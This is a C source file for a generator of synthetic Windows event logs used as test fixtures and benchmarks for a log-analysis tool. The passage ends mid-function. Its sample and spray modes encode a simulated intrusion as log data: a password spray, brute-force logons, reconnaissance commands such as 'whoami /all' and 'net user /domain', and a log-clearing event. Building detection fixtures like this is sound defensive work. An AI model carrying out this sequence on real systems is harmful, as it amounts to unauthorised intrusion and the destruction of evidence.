/*
 * gen_evtx.c - vaern-gen-evtx: EVTX files made by the test writer (tests/helpers/evtx_writer).
 *
 *   fixtures DIR               every fixture of the catalog as DIR/NAME.evtx (fuzz seeds)
 *   big FILE --records N       a large valid log of varied Security, Sysmon and PowerShell
 *        [--seed S]            events, streamed chunk by chunk (benchmarks)
 *   sample DIR                 small logs with a story in them, for the README demo
 *   spray FILE --records N     N failed network logons from N distinct addresses, then a
 *        [--burst B]           brute force: B failures from one address (correlation
 *        [--gap-ms G]          bounds and benchmarks); records G ms apart (default 10)
 *
 * The project never ships real logs: everything a demo, benchmark or fuzzer reads comes from
 * here, reproducibly (same arguments, same bytes).
 */
#include <errno.h>
#include <inttypes.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>

#include "evtx_writer.h"

#define EXIT_USAGE 2

static void usage(FILE *f) {
    fputs("usage: vaern-gen-evtx fixtures DIR\n"
          "       vaern-gen-evtx big FILE --records N [--seed S]\n"
          "       vaern-gen-evtx sample DIR\n"
          "       vaern-gen-evtx spray FILE --records N [--burst B] [--gap-ms G]\n"
          "  fixtures  write every test fixture (valid and damaged) as DIR/NAME.evtx\n"
          "  big       write a large valid EVTX file of N varied records\n"
          "  sample    write small sample logs (Security, System, Sysmon, PowerShell) to DIR\n"
          "  spray     write N failed network logons (4625, LogonType 3) from N distinct\n"
          "            addresses, then B (default 20) from 203.0.113.77, G ms apart (default 10)\n",
          f);
}

static int make_dir(const char *dir) {
    if (mkdir(dir, 0777) && errno != EEXIST) {
        fprintf(stderr, "vaern-gen-evtx: %s: %s\n", dir, strerror(errno));
        return -1;
    }
    return 0;
}

static int write_file(const char *path, const uint8_t *p, size_t n) {
    FILE *f = fopen(path, "wb");
    if (!f || fwrite(p, 1, n, f) != n || fclose(f)) {
        fprintf(stderr, "vaern-gen-evtx: %s: %s\n", path, strerror(errno ? errno : EIO));
        if (f) fclose(f);
        return -1;
    }
    return 0;
}

static int cmd_fixtures(const char *dir) {
    if (make_dir(dir)) return 1;
    size_t n;
    const vt_fixture *fx = vt_fixture_list(&n);
    for (size_t i = 0; i < n; i++) {
        uint8_t *data;
        size_t len;
        vt_fixinfo info;
        if (fx[i].build(&data, &len, &info)) {
            fprintf(stderr, "vaern-gen-evtx: cannot build fixture %s\n", fx[i].name);
            return 1;
        }
        char path[4096];
        snprintf(path, sizeof path, "%s/%s.evtx", dir, fx[i].name);
        int r = write_file(path, data, len);
        free(data);
        if (r) return 1;
    }
    return 0;
}

/* ---- event generation shared by big and sample ---- */

typedef struct rng {
    uint64_t s;
} rng;

/* xorshift64*: fast and reproducible; quality is not a concern for log contents. */
static uint64_t rnd(rng *r) {
    r->s ^= r->s >> 12;
    r->s ^= r->s << 25;
    r->s ^= r->s >> 27;
    return r->s * 0x2545f4914f6cdd1dull;
}

static uint32_t below(rng *r, uint32_t n) {
    return (uint32_t)(rnd(r) % n);
}

/* Per-record text storage: values borrow their strings until the record is written. */
typedef struct strpool {
    char b[16384];
    size_t used;
} strpool;

static const char *sp_fmt(strpool *p, const char *fmt, ...) __attribute__((format(printf, 2, 3)));
static const char *sp_fmt(strpool *p, const char *fmt, ...) {
    if (p->used >= sizeof p->b) return "";
    char *s = p->b + p->used;
    va_list ap;
    va_start(ap, fmt);
    int n = vsnprintf(s, sizeof p->b - p->used, fmt, ap);
    va_end(ap);
    if (n < 0 || (size_t)n >= sizeof p->b - p->used) {
        p->used = sizeof p->b;
        return "";
    }
    p->used += (size_t)n + 1;
    return s;
}

static const char *sp_guid(strpool *p, rng *r) {
    uint64_t a = rnd(r), b = rnd(r);
    return sp_fmt(p, "{%08" PRIX32 "-%04X-%04X-%04X-%012" PRIX64 "}", (uint32_t)a,
                  (unsigned)(a >> 32 & 0xffff), (unsigned)((a >> 48 & 0x0fff) | 0x4000),
                  (unsigned)((b & 0x3fff) | 0x8000), b >> 16);
}

typedef struct field {
    const char *name;
    uint8_t type;
} field;

enum { P_SECURITY, P_SYSMON, P_POWERSHELL, P_EVENTLOG, P_SCM, NPROV };

static const vt_sysdef providers[NPROV] = {
    {"Microsoft-Windows-Security-Auditing", "{54849625-5478-4994-A5BA-3E3B0328C30D}", "Security",
     NULL, 0},
    {"Microsoft-Windows-Sysmon", "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}",
     "Microsoft-Windows-Sysmon/Operational", NULL, 0},
    {"Microsoft-Windows-PowerShell", "{A0C1853B-5C40-4B15-8766-3CF1C58F985A}",
     "Microsoft-Windows-PowerShell/Operational", NULL, 0},
    {"Microsoft-Windows-Eventlog", "{fc65ddd8-d6ef-4962-83d5-6e5cfe9ce148}", "Security", NULL, 1},
    {"Service Control Manager", "{555908d1-a6d7-4695-8e1e-26931d2012f4}", "System", NULL, 0},
};

enum {
    K_4624,
    K_4625,
    K_4688,
    K_4672,
    K_SYSMON1,
    K_SYSMON3,
    K_SYSMON11,
    K_4104,
    K_1102,
    K_7045,
    K_7036,
    NKIND
};

#define SUBJ                                                                                       \
    {"SubjectUserSid", VT_T_SID}, {"SubjectUserName", VT_T_STRING},                                \
        {"SubjectDomainName", VT_T_STRING}, {                                                      \
        "SubjectLogonId", VT_T_HEX64                                                               \
    }

static const field f4624[] = {SUBJ,
                              {"TargetUserSid", VT_T_SID},
                              {"TargetUserName", VT_T_STRING},
                              {"TargetDomainName", VT_T_STRING},
                              {"TargetLogonId", VT_T_HEX64},
                              {"LogonType", VT_T_UINT32},
                              {"LogonProcessName", VT_T_STRING},
                              {"AuthenticationPackageName", VT_T_STRING},
                              {"WorkstationName", VT_T_STRING},
                              {"LogonGuid", VT_T_GUID},
                              {"KeyLength", VT_T_UINT32},
                              {"ProcessId", VT_T_HEX64},
                              {"ProcessName", VT_T_STRING},
                              {"IpAddress", VT_T_STRING},
                              {"IpPort", VT_T_STRING},
                              {"ElevatedToken", VT_T_STRING}};
static const field f4625[] = {SUBJ,
                              {"TargetUserSid", VT_T_SID},
                              {"TargetUserName", VT_T_STRING},
                              {"TargetDomainName", VT_T_STRING},
                              {"Status", VT_T_HEX32},
                              {"FailureReason", VT_T_STRING},
                              {"SubStatus", VT_T_HEX32},
                              {"LogonType", VT_T_UINT32},
                              {"LogonProcessName", VT_T_STRING},
                              {"AuthenticationPackageName", VT_T_STRING},
                              {"WorkstationName", VT_T_STRING},
                              {"ProcessId", VT_T_HEX64},
                              {"ProcessName", VT_T_STRING},
                              {"IpAddress", VT_T_STRING},
                              {"IpPort", VT_T_STRING}};
static const field f4688[] = {SUBJ,
                              {"NewProcessId", VT_T_HEX64},
                              {"NewProcessName", VT_T_STRING},
                              {"TokenElevationType", VT_T_STRING},
                              {"ProcessId", VT_T_HEX64},
                              {"CommandLine", VT_T_STRING},
                              {"TargetUserSid", VT_T_SID},
                              {"TargetUserName", VT_T_STRING},
                              {"TargetDomainName", VT_T_STRING},
                              {"TargetLogonId", VT_T_HEX64},
                              {"ParentProcessName", VT_T_STRING},
                              {"MandatoryLabel", VT_T_SID}};
static const field f4672[] = {SUBJ, {"PrivilegeList", VT_T_STRING}};
static const field fsys1[] = {{"RuleName", VT_T_STRING},
                              {"UtcTime", VT_T_STRING},
                              {"ProcessGuid", VT_T_GUID},
                              {"ProcessId", VT_T_UINT32},
                              {"Image", VT_T_STRING},
                              {"FileVersion", VT_T_STRING},
                              {"Description", VT_T_STRING},
                              {"Product", VT_T_STRING},
                              {"Company", VT_T_STRING},
                              {"OriginalFileName", VT_T_STRING},
                              {"CommandLine", VT_T_STRING},
                              {"CurrentDirectory", VT_T_STRING},
                              {"User", VT_T_STRING},
                              {"LogonGuid", VT_T_GUID},
                              {"LogonId", VT_T_HEX64},
                              {"TerminalSessionId", VT_T_UINT32},
                              {"IntegrityLevel", VT_T_STRING},
                              {"Hashes", VT_T_STRING},
                              {"ParentProcessGuid", VT_T_GUID},
                              {"ParentProcessId", VT_T_UINT32},
                              {"ParentImage", VT_T_STRING},
                              {"ParentCommandLine", VT_T_STRING},
                              {"ParentUser", VT_T_STRING}};
static const field fsys3[] = {
    {"RuleName", VT_T_STRING},        {"UtcTime", VT_T_STRING},
    {"ProcessGuid", VT_T_GUID},       {"ProcessId", VT_T_UINT32},
    {"Image", VT_T_STRING},           {"User", VT_T_STRING},
    {"Protocol", VT_T_STRING},        {"Initiated", VT_T_BOOL},
    {"SourceIsIpv6", VT_T_BOOL},      {"SourceIp", VT_T_STRING},
    {"SourceHostname", VT_T_STRING},  {"SourcePort", VT_T_UINT16},
    {"SourcePortName", VT_T_STRING},  {"DestinationIsIpv6", VT_T_BOOL},
    {"DestinationIp", VT_T_STRING},   {"DestinationHostname", VT_T_STRING},
    {"DestinationPort", VT_T_UINT16}, {"DestinationPortName", VT_T_STRING}};
static const field fsys11[] = {{"RuleName", VT_T_STRING},        {"UtcTime", VT_T_STRING},
                               {"ProcessGuid", VT_T_GUID},       {"ProcessId", VT_T_UINT32},
                               {"Image", VT_T_STRING},           {"TargetFilename", VT_T_STRING},
                               {"CreationUtcTime", VT_T_STRING}, {"User", VT_T_STRING}};
static const field f4104[] = {{"MessageNumber", VT_T_INT32},
                              {"MessageTotal", VT_T_INT32},
                              {"ScriptBlockText", VT_T_STRING},
                              {"ScriptBlockId", VT_T_STRING},
                              {"Path", VT_T_STRING}};
static const field f1102[] = {{"SubjectUserSid", VT_T_SID},
                              {"SubjectUserName", VT_T_STRING},
                              {"SubjectDomainName", VT_T_STRING},
                              {"SubjectLogonId", VT_T_HEX64}};
static const field f7045[] = {{"ServiceName", VT_T_STRING},
                              {"ImagePath", VT_T_STRING},
                              {"ServiceType", VT_T_STRING},
                              {"StartType", VT_T_STRING},
                              {"AccountName", VT_T_STRING}};
static const field f7036[] = {
    {"param1", VT_T_STRING}, {"param2", VT_T_STRING}, {"binary", VT_T_BINARY}};

typedef struct kind {
    uint16_t id;
    int prov;
    uint8_t version, level, opcode;
    uint16_t task;
    uint64_t keywords;
    const field *f;
    size_t n;
    const char *wrapper, *ns; /* UserData payloads */
} kind;

#define KW_SUCCESS 0x8020000000000000ull
#define KW_FAILURE 0x8010000000000000ull
#define KW_SYSMON  0x8000000000000000ull
#define N(a)       (sizeof(a) / sizeof((a)[0]))

static const kind kinds[NKIND] = {
    [K_4624] = {4624, P_SECURITY, 2, 0, 0, 12544, KW_SUCCESS, f4624, N(f4624), NULL, NULL},
    [K_4625] = {4625, P_SECURITY, 0, 0, 0, 12544, KW_FAILURE, f4625, N(f4625), NULL, NULL},
    [K_4688] = {4688, P_SECURITY, 2, 0, 0, 13312, KW_SUCCESS, f4688, N(f4688), NULL, NULL},
    [K_4672] = {4672, P_SECURITY, 0, 0, 0, 12548, KW_SUCCESS, f4672, N(f4672), NULL, NULL},
    [K_SYSMON1] = {1, P_SYSMON, 5, 4, 0, 1, KW_SYSMON, fsys1, N(fsys1), NULL, NULL},
    [K_SYSMON3] = {3, P_SYSMON, 5, 4, 0, 3, KW_SYSMON, fsys3, N(fsys3), NULL, NULL},
    [K_SYSMON11] = {11, P_SYSMON, 2, 4, 0, 11, KW_SYSMON, fsys11, N(fsys11), NULL, NULL},
    [K_4104] = {4104, P_POWERSHELL, 1, 5, 15, 2, 0, f4104, N(f4104), NULL, NULL},
    [K_1102] = {1102, P_EVENTLOG, 0, 4, 0, 104, 0x4020000000000000ull, f1102, N(f1102),
                "LogFileCleared", "http://manifests.microsoft.com/win/2004/08/windows/eventlog"},
    [K_7045] = {7045, P_SCM, 0, 4, 0, 0, 0x8080000000000000ull, f7045, N(f7045), NULL, NULL},
    [K_7036] = {7036, P_SCM, 0, 4, 0, 0, 0x8080000000000000ull, f7036, N(f7036), NULL, NULL},
};

#define NHOST 4
static const char *const hosts[NHOST] = {"WS01.corp.example", "WS02.corp.example",
                                         "FS01.corp.example", "DC01.corp.example"};

/* Templates, made on first use; one <Event> template per provider and host, as Windows has
 * one per provider and machine. */
typedef struct gen {
    vt_evtx *w;
    rng r;
    uint64_t t; /* FILETIME of the last record */
    vt_tmpl *ev[NPROV][NHOST];
    vt_tmpl *data[NKIND];
    strpool sp;
} gen;

static void gen_free(gen *g) {
    for (int p = 0; p < NPROV; p++)
        for (int h = 0; h < NHOST; h++) vt_tmpl_free(g->ev[p][h]);
    for (int k = 0; k < NKIND; k++) vt_tmpl_free(g->data[k]);
    vt_evtx_free(g->w);
}

/* A generator writing a new EVTX file at path (*out), or NULL (reported). */
static gen *gen_open(const char *path, FILE **out) {
    if (!(*out = fopen(path, "wb"))) {
        fprintf(stderr, "vaern-gen-evtx: %s: %s\n", path, strerror(errno));
        return NULL;
    }
    gen *g = calloc(1, sizeof *g);
    if (!g) {
        fclose(*out);
        fprintf(stderr, "vaern-gen-evtx: out of memory\n");
    }
    return g;
}

/* Finish the file (unless err), free g and close out; the exit status, failures reported. */
static int gen_close(gen *g, FILE *out, const char *path, int err) {
    if (!err) err = vt_evtx_finish(g->w, NULL, NULL) != 0;
    if (err) fprintf(stderr, "vaern-gen-evtx: %s: cannot write the file\n", path);
    gen_free(g);
    free(g);
    if (fclose(out) && !err) {
        fprintf(stderr, "vaern-gen-evtx: %s: %s\n", path, strerror(errno));
        err = 1;
    }
    return err ? 1 : 0;
}

/* Write one event of kind k on host h with EventData values dv (nd = the kind's field count).
 * qualifiers: EventID Qualifiers, or -1 for none. */
static int emit(gen *g, int k, int h, const vt_val *dv, const char *user_sid, uint32_t pid,
                uint32_t tid, long qualifiers) {
    const kind *kd = &kinds[k];
    if (!g->ev[kd->prov][h]) {
        vt_sysdef d = providers[kd->prov];
        d.computer = hosts[h];
        if (!(g->ev[kd->prov][h] = vt_tmpl_event(&d))) return -1;
    }
    if (!g->data[k]) {
        const char *names[32];
        uint8_t types[32];
        for (size_t i = 0; i < kd->n; i++) names[i] = kd->f[i].name, types[i] = kd->f[i].type;
        if (!(g->data[k] = vt_tmpl_data(names, types, kd->n, kd->wrapper, kd->ns))) return -1;
    }
    vt_frag *pl = vt_frag_new();
    if (!pl) return -1;
    vt_tinst(pl, g->data[k], dv, kd->n);
    vt_sysvals s = {kd->id, kd->version,           kd->level, kd->opcode, kd->task, kd->keywords,
                    g->t,   vt_evtx_next_id(g->w), pid,       tid,        user_sid, NULL};
    vt_val v[VT_SYS_NVALS];
    vt_sysvals_fill(v, &s, vt_v_binxml(pl));
    if (qualifiers >= 0) v[4] = vt_v_u16((uint16_t)qualifiers);
    int r = vt_evtx_add_tinst(g->w, g->t, g->ev[kd->prov][h], v, VT_SYS_NVALS, NULL);
    vt_frag_free(pl);
    g->sp.used = 0; /* the record is out: its strings are no longer borrowed */
    return r;
}

static const char *const users[] = {"alice", "bob", "carol", "dave", "svc_backup", "svc_sql"};
static const char *const images[] = {
    "C:\\Windows\\System32\\cmd.exe",
    "C:\\Windows\\System32\\svchost.exe",
    "C:\\Windows\\explorer.exe",
    "C:\\Program Files\\Mozilla Firefox\\firefox.exe",
    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
    "C:\\Windows\\System32\\notepad.exe",
    "C:\\Windows\\System32\\whoami.exe",
    "C:\\Windows\\System32\\net.exe"};
static const char *const cmdargs[] = {"",
                                      " /c dir C:\\Users",
                                      " -k netsvcs -p",
                                      " --new-tab",
                                      " -NoProfile -File C:\\Scripts\\inventory.ps1",
                                      " report.txt",
                                      " /all",
                                      " user /domain"};

static const char *user_sid(strpool *p, uint32_t u) {
    return sp_fmt(p, "S-1-5-21-3623811015-3361044348-30300820-%u", 1100 + u);
}

static const char *utc_text(strpool *p, uint64_t ft) {
    uint64_t s = ft / 10000000u - 11644473600ull;
    uint64_t days = s / 86400, rem = s % 86400;
    /* Civil date from days since 1970 (valid for the years the generator uses). */
    uint64_t z = days + 719468, era = z / 146097, doe = z - era * 146097;
    uint64_t yoe = (doe - doe / 1460 + doe / 36524 - doe / 146096) / 365;
    uint64_t doy = doe - (365 * yoe + yoe / 4 - yoe / 100), mp = (5 * doy + 2) / 153;
    uint64_t d = doy - (153 * mp + 2) / 5 + 1, m = mp < 10 ? mp + 3 : mp - 9;
    uint64_t y = yoe + era * 400 + (m <= 2);
    return sp_fmt(p,
                  "%04" PRIu64 "-%02" PRIu64 "-%02" PRIu64 " %02" PRIu64 ":%02" PRIu64 ":%02" PRIu64
                  ".%03" PRIu64,
                  y, m, d, rem / 3600, rem / 60 % 60, rem % 60, ft / 10000 % 1000);
}

static int ev_logon(gen *g, int h, uint32_t u, uint32_t type, const char *ip, int failed) {
    strpool *p = &g->sp;
    rng *r = &g->r;
    const char *ws = sp_fmt(p, "WS%02u", (unsigned)(h + 1));
    const char *port = ip[0] == '-' ? "-" : sp_fmt(p, "%u", 49152 + below(r, 16000));
    if (failed) {
        vt_val dv[N(f4625)] = {vt_v_sid("S-1-0-0"),    vt_v_str("-"),          vt_v_str("-"),
                               vt_v_hex64(0),          vt_v_sid("S-1-0-0"),    vt_v_str(users[u]),
                               vt_v_str("CORP"),       vt_v_hex32(0xc000006d), vt_v_str("%%2313"),
                               vt_v_hex32(0xc000006a), vt_v_u32(type),         vt_v_str("NtLmSsp "),
                               vt_v_str("NTLM"),       vt_v_str(ws),           vt_v_hex64(0),
                               vt_v_str("-"),          vt_v_str(ip),           vt_v_str(port)};
        return emit(g, K_4625, h, dv, NULL, 612, 1000 + below(r, 4000), -1);
    }
    vt_val dv[N(f4624)] = {vt_v_sid("S-1-5-18"),
                           vt_v_str(sp_fmt(p, "%s$", ws)),
                           vt_v_str("CORP"),
                           vt_v_hex64(0x3e7),
                           vt_v_sid(user_sid(p, u)),
                           vt_v_str(users[u]),
                           vt_v_str("CORP"),
                           vt_v_hex64(0x100000 + (rnd(r) & 0xffffff)),
                           vt_v_u32(type),
                           vt_v_str(type == 3 ? "NtLmSsp " : "User32 "),
                           vt_v_str(type == 3 ? "NTLM" : "Negotiate"),
                           vt_v_str(ws),
                           vt_v_guid(sp_guid(p, r)),
                           vt_v_u32(type == 3 ? 128 : 0),
                           vt_v_hex64(type == 3 ? 0 : 0x2a4),
                           vt_v_str(type == 3 ? "-" : "C:\\Windows\\System32\\svchost.exe"),
                           vt_v_str(ip),
                           vt_v_str(port),
                           vt_v_str("%%1842")};
    return emit(g, K_4624, h, dv, NULL, 612, 1000 + below(r, 4000), -1);
}

static int ev_special(gen *g, int h, uint32_t u) {
    strpool *p = &g->sp;
    vt_val dv[N(f4672)] = {vt_v_sid(user_sid(p, u)), vt_v_str(users[u]), vt_v_str("CORP"),
                           vt_v_hex64(0x100000 + (rnd(&g->r) & 0xffffff)),
                           vt_v_str("SeSecurityPrivilege\r\n\t\t\tSeBackupPrivilege\r\n\t\t\t"
                                    "SeDebugPrivilege")};
    return emit(g, K_4672, h, dv, NULL, 612, 1000 + below(&g->r, 4000), -1);
}

static int ev_process(gen *g, int h, uint32_t u, const char *image, const char *cmdline,
                      const char *parent) {
    strpool *p = &g->sp;
    vt_val dv[N(f4688)] = {vt_v_sid(user_sid(p, u)),
                           vt_v_str(users[u]),
                           vt_v_str("CORP"),
                           vt_v_hex64(0x100000 + (rnd(&g->r) & 0xffffff)),
                           vt_v_hex64(0x1000 + below(&g->r, 60000)),
                           vt_v_str(image),
                           vt_v_str("%%1938"),
                           vt_v_hex64(0x1000 + below(&g->r, 60000)),
                           vt_v_str(cmdline),
                           vt_v_sid("S-1-0-0"),
                           vt_v_str("-"),
                           vt_v_str("-"),
                           vt_v_hex64(0),
                           vt_v_str(parent),
                           vt_v_sid("S-1-16-8192")};
    return emit(g, K_4688, h, dv, NULL, 4, 1000 + below(&g->r, 4000), -1);
}

static int ev_sysmon1(gen *g, int h, uint32_t u, const char *image, const char *cmdline,
                      const char *parent, const char *parent_cmd) {
    strpool *p = &g->sp;
    rng *r = &g->r;
    const char *base = strrchr(image, '\\') ? strrchr(image, '\\') + 1 : image;
    const char *user = sp_fmt(p, "CORP\\%s", users[u]);
    vt_val dv[N(fsys1)] = {
        vt_v_str("-"),
        vt_v_str(utc_text(p, g->t)),
        vt_v_guid(sp_guid(p, r)),
        vt_v_u32(1000 + below(r, 60000)),
        vt_v_str(image),
        vt_v_str("10.0.19041.1"),
        vt_v_str(base),
        vt_v_str("Microsoft\xc2\xae Windows\xc2\xae Operating System"),
        vt_v_str("Microsoft Corporation"),
        vt_v_str(base),
        vt_v_str(cmdline),
        vt_v_str("C:\\Users\\Public\\"),
        vt_v_str(user),
        vt_v_guid(sp_guid(p, r)),
        vt_v_hex64(0x100000 + (rnd(r) & 0xffffff)),
        vt_v_u32(1),
        vt_v_str("Medium"),
        vt_v_str(sp_fmt(p, "SHA256=%016" PRIX64 "%016" PRIX64 "%016" PRIX64 "%016" PRIX64, rnd(r),
                        rnd(r), rnd(r), rnd(r))),
        vt_v_guid(sp_guid(p, r)),
        vt_v_u32(1000 + below(r, 60000)),
        vt_v_str(parent),
        vt_v_str(parent_cmd),
        vt_v_str(user)};
    return emit(g, K_SYSMON1, h, dv, "S-1-5-18", 3000, 4000, -1);
}

static int ev_sysmon3(gen *g, int h, uint32_t u, const char *image, const char *dst,
                      uint16_t port) {
    strpool *p = &g->sp;
    rng *r = &g->r;
    vt_val dv[N(fsys3)] = {vt_v_str("-"),
                           vt_v_str(utc_text(p, g->t)),
                           vt_v_guid(sp_guid(p, r)),
                           vt_v_u32(1000 + below(r, 60000)),
                           vt_v_str(image),
                           vt_v_str(sp_fmt(p, "CORP\\%s", users[u])),
                           vt_v_str("tcp"),
                           vt_v_bool(1),
                           vt_v_bool(0),
                           vt_v_str(sp_fmt(p, "10.1.0.%u", (unsigned)(h + 10))),
                           vt_v_str(hosts[h]),
                           vt_v_u16((uint16_t)(49152 + below(r, 16000))),
                           vt_v_str("-"),
                           vt_v_bool(0),
                           vt_v_str(dst),
                           vt_v_str("-"),
                           vt_v_u16(port),
                           vt_v_str(port == 443   ? "https"
                                    : port == 445 ? "microsoft-ds"
                                                  : "-")};
    return emit(g, K_SYSMON3, h, dv, "S-1-5-18", 3000, 4000, -1);
}

static int ev_sysmon11(gen *g, int h, uint32_t u, const char *image, const char *target) {
    strpool *p = &g->sp;
    rng *r = &g->r;
    vt_val dv[N(fsys11)] = {vt_v_str("-"),
                            vt_v_str(utc_text(p, g->t)),
                            vt_v_guid(sp_guid(p, r)),
                            vt_v_u32(1000 + below(r, 60000)),
                            vt_v_str(image),
                            vt_v_str(target),
                            vt_v_str(utc_text(p, g->t)),
                            vt_v_str(sp_fmt(p, "CORP\\%s", users[u]))};
    return emit(g, K_SYSMON11, h, dv, "S-1-5-18", 3000, 4000, -1);
}

static int ev_script(gen *g, int h, uint32_t u, const char *text) {
    strpool *p = &g->sp;
    vt_val dv[N(f4104)] = {vt_v_i32(1), vt_v_i32(1), vt_v_str(text), vt_v_str(sp_guid(p, &g->r)),
                           vt_v_str("")};
    return emit(g, K_4104, h, dv, user_sid(p, u), 5000, 6000, -1);
}

/* ---- big ---- */

static int big_one(gen *g) {
    rng *r = &g->r;
    int h = (int)below(r, NHOST);
    uint32_t u = below(r, N(users));
    uint32_t pick = below(r, 100), im = below(r, N(images));
    const char *cmd = sp_fmt(&g->sp, "\"%s\"%s", images[im], cmdargs[im]);
    static const char *const dsts[] = {"10.1.0.5", "93.184.216.34", "10.1.0.20", "140.82.121.4"};
    static const uint16_t ports[] = {445, 443, 389, 443};
    if (pick < 25) {
        static const uint32_t types[] = {2, 3, 3, 3, 5, 10};
        uint32_t t = types[below(r, N(types))];
        const char *ip = t == 3 || t == 10 ? sp_fmt(&g->sp, "10.1.0.%u", 10 + below(r, 200)) : "-";
        return ev_logon(g, h, u, t, ip, 0);
    }
    if (pick < 33)
        return ev_logon(g, h, u, 3, sp_fmt(&g->sp, "198.51.100.%u", 1 + below(r, 254)), 1);
    if (pick < 53) return ev_process(g, h, u, images[im], cmd, "C:\\Windows\\explorer.exe");
    if (pick < 60) return ev_special(g, h, u);
    if (pick < 75)
        return ev_sysmon1(g, h, u, images[im], cmd, "C:\\Windows\\explorer.exe",
                          "C:\\Windows\\Explorer.EXE");
    if (pick < 87) {
        uint32_t k = below(r, N(dsts));
        return ev_sysmon3(g, h, u, images[im], dsts[k], ports[k]);
    }
    if (pick < 95)
        return ev_sysmon11(g, h, u, images[im],
                           sp_fmt(&g->sp, "C:\\Users\\%s\\AppData\\Local\\Temp\\tmp%04X.tmp",
                                  users[u], below(r, 65536)));
    return ev_script(g, h, u,
                     sp_fmt(&g->sp,
                            "Get-ChildItem -Path C:\\Users\\%s -Recurse -Filter *.docx | "
                            "Select-Object -First %u FullName",
                            users[u], 1 + below(r, 50)));
}

static int parse_u64(const char *s, uint64_t *out) {
    char *end;
    errno = 0;
    unsigned long long v = strtoull(s, &end, 10);
    if (!*s || *s == '-' || *end || errno) return -1;
    *out = v;
    return 0;
}

static int cmd_big(int argc, char **argv) {
    const char *path = NULL;
    uint64_t nrec = 0, seed = 1;
    int have_n = 0;
    for (int i = 0; i < argc; i++) {
        if (!strcmp(argv[i], "--records") && i + 1 < argc) {
            if (parse_u64(argv[++i], &nrec)) return EXIT_USAGE;
            have_n = 1;
        } else if (!strcmp(argv[i], "--seed") && i + 1 < argc) {
            if (parse_u64(argv[++i], &seed)) return EXIT_USAGE;
        } else if (argv[i][0] != '-' && !path) {
            path = argv[i];
        } else {
            return EXIT_USAGE;
        }
    }
    if (!path || !have_n) return EXIT_USAGE;
    FILE *out;
    gen *g = gen_open(path, &out);
    if (!g) return 1;
    g->r.s = seed * 0x9e3779b97f4a7c15ull + 0x632be59bd9b4e019ull;
    if (!g->r.s) g->r.s = 1;
    g->t = vt_filetime(2024, 3, 1, 0, 0, 0, 0);
    vt_evtx_opts o = {out, 0, -1, 1};
    g->w = vt_evtx_new(&o);
    int err = !g->w;
    for (uint64_t i = 0; i < nrec && !err; i++) {
        g->t += rnd(&g->r) % 20000000u; /* up to two seconds between events */
        err = big_one(g) != 0;
    }
    return gen_close(g, out, path, err);
}

/* ---- spray ---- */

/* A password spray hides a brute force: every failure before the burst comes from its own
 * address (10.0.0.0/8, then 100.64.0.0/10), so no address reaches a threshold, and the burst
 * from one address at the end must still be found however many failures came first. */
static int cmd_spray(int argc, char **argv) {
    const char *path = NULL;
    uint64_t nrec = 0, burst = 20, gap_ms = 10;
    int have_n = 0;
    for (int i = 0; i < argc; i++) {
        uint64_t *dst = !strcmp(argv[i], "--records")  ? &nrec
                        : !strcmp(argv[i], "--burst")  ? &burst
                        : !strcmp(argv[i], "--gap-ms") ? &gap_ms
                                                       : NULL;
        if (dst && i + 1 < argc) {
            if (parse_u64(argv[++i], dst)) return EXIT_USAGE;
            have_n |= dst == &nrec;
        } else if (argv[i][0] != '-' && !path) {
            path = argv[i];
        } else {
            return EXIT_USAGE;
        }
    }
    /* 2^24 + 2^22 distinct addresses; a gap beyond a day is not a spray. */
    if (!path || !have_n || nrec > (1u << 24) + (1u << 22) || gap_ms > 86400000u) return EXIT_USAGE;
    FILE *out;
    gen *g = gen_open(path, &out);
    if (!g) return 1;
    g->r.s = 0x5eed5eedu;
    g->t = vt_filetime(2024, 3, 4, 7, 30, 0, 0);
    vt_evtx_opts o = {out, 0, -1, 1};
    g->w = vt_evtx_new(&o);
    int err = !g->w;
    for (uint64_t i = 0; i < nrec + burst && !err; i++) {
        char ip[16];
        if (i >= nrec)
            snprintf(ip, sizeof ip, "203.0.113.77");
        else if (i < (1u << 24))
            snprintf(ip, sizeof ip, "10.%u.%u.%u", (unsigned)(i >> 16 & 255),
                     (unsigned)(i >> 8 & 255), (unsigned)(i & 255));
        else
            snprintf(ip, sizeof ip, "100.%u.%u.%u", (unsigned)(64 + (i >> 16 & 63)),
                     (unsigned)(i >> 8 & 255), (unsigned)(i & 255));
        g->t += gap_ms * 10000u; /* FILETIME counts 100 ns */
        err = ev_logon(g, 3, below(&g->r, N(users)), 3, ip, 1) != 0;
    }
    return gen_close(g, out, path, err);
}

/* ---- sample ---- */

typedef int (*sample_fn)(gen *g);

static void advance(gen *g, uint32_t min_s, uint32_t max_s) {
    g->t +=
        (uint64_t)(min_s + below(&g->r, max_s - min_s + 1)) * 10000000u + below(&g->r, 10000000u);
}

static int sample_security(gen *g) {
    int r = 0;
    /* A quiet morning. */
    for (int i = 0; i < 12 && !r; i++) {
        advance(g, 30, 600);
        uint32_t u = below(&g->r, 4);
        r = ev_logon(g, 0, u, 2, "-", 0) || ev_special(g, 0, u) ||
            ev_process(g, 0, u, images[5], "\"C:\\Windows\\System32\\notepad.exe\" report.txt",
                       "C:\\Windows\\explorer.exe");
    }
    /* Password guessing from one address, then the guess that works. */
    for (int i = 0; i < 40 && !r; i++) {
        advance(g, 0, 2);
        r = ev_logon(g, 0, 4, 3, "203.0.113.45", 1);
    }
    advance(g, 1, 3);
    if (!r) r = ev_logon(g, 0, 4, 3, "203.0.113.45", 0) || ev_special(g, 0, 4);
    advance(g, 5, 20);
    if (!r) r = ev_process(g, 0, 4, images[6], "whoami /all", "C:\\Windows\\System32\\cmd.exe");
    /* The intruder covers their tracks. */
    advance(g, 60, 120);
    if (!r) {
        strpool *p = &g->sp;
        vt_val dv[N(f1102)] = {vt_v_sid(user_sid(p, 4)), vt_v_str(users[4]), vt_v_str("CORP"),
                               vt_v_hex64(0x1f4c65f)};
        r = emit(g, K_1102, 0, dv, NULL, 732, 3728, -1);
    }
    return r;
}

static int sample_system(gen *g) {
    int r = 0;
    static const char *const svcs[] = {"Windows Update", "Print Spooler", "BITS",
                                       "Windows Defender Antivirus Service"};
    static const uint8_t bin[] = {0x77, 0x00, 0x75, 0x00, 0x61, 0x00, 0x75, 0x00};
    for (int i = 0; i < 10 && !r; i++) {
        advance(g, 60, 900);
        vt_val dv[N(f7036)] = {vt_v_str(svcs[below(&g->r, N(svcs))]),
